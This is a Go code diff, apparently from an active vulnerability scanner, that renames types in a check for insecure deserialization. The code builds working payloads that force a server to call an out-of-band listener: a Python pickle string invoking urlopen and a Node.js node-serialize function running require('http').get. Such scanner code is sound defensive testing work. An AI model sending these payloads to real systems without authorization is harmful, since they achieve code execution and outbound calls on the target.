@@ -15,15 +15,16 @@ import (
 
 // object writes an object of the language that calls; empty: none is known that does, or
 // it needs a name that leads to the listener, and there is none.
-func object(language string, b activescan.Bait) string {
+func object(language string, b activescan.OASTPayload) string {
 	switch language {
 	case "Java":
 		return javaObject(b.Host)
 	case "Python":
 		// protocol 0: a function, its arguments, and its call
-		return "curllib.request\nurlopen\n(V" + b.Named() + "\nNI3\ntR."
+		return "curllib.request\nurlopen\n(V" + b.URLWithHostName() + "\nNI3\ntR."
 	case script:
-		function := "_$$ND_FUNC$$_function(){require('http').get('" + b.Named() + "').on('error',function(){})}()"
+		function := "_$$ND_FUNC$$_function(){require('http').get('" + b.URLWithHostName() +
+			"').on('error',function(){})}()"
 		text, err := json.Marshal(map[string]string{"a": function})
 		if err != nil {
 			return ""
@@ -35,19 +36,21 @@ func object(language string, b activescan.Bait) string {
 
 // calls sends an object that calls, written as the value is.
 func calls(p *activescan.Probe, language string) (bool, error) {
-	if p.Callback == nil {
+	if p.OAST == nil {
 		return false, nil
 	}
-	address, host := p.Callback.Address(p.Callback.Token())
-	if object(language, activescan.Bait{URL: address, Host: host}) == "" {
+	address, host := p.OAST.Address(p.OAST.Token())
+	if object(language, activescan.OASTPayload{URL: address, Host: host}) == "" {
 		return false, nil
 	}
-	return p.Lure(func(bait func() activescan.Bait) (*message.Request, []activescan.Hook) {
+	return p.SendOAST(func(bait func() activescan.OASTPayload) (*message.Request, []activescan.ExpectedInteraction) {
 		b := bait()
-		value := like(p.At.Value, object(language, b))
-		return p.Request.With(p.At, value), []activescan.Hook{{Bait: b, Rule: called, At: &p.At, Payload: value,
-			Proof: "The value is an object of " + language + " that makes whoever reads it call a listener; it was " +
-				"called."}}
+		value := like(p.Point.Value, object(language, b))
+		return p.Request.With(p.Point, value),
+			[]activescan.ExpectedInteraction{{OASTPayload: b, Rule: called, Point: &p.Point, Payload: value,
+				Proof: "The value is an object of " + language + " that makes whoever reads it call a listener; " +
+					"it was " +
+					"called."}}
 	})
 }
 
